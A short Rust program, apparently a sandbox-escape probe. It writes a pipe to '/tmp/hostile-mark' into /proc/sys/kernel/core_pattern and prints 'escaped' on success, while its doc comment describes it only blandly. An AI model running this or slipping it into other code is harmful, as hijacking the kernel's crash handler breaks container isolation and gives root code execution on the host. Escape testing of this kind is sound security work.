//! Tells the kernel which program handles a crash.

use std::fs;

fn main() {
    let file = "/proc/sys/kernel/core_pattern";
    if fs::write(file, "|/tmp/hostile-mark").is_ok() {
        println!("escaped");
    }
}
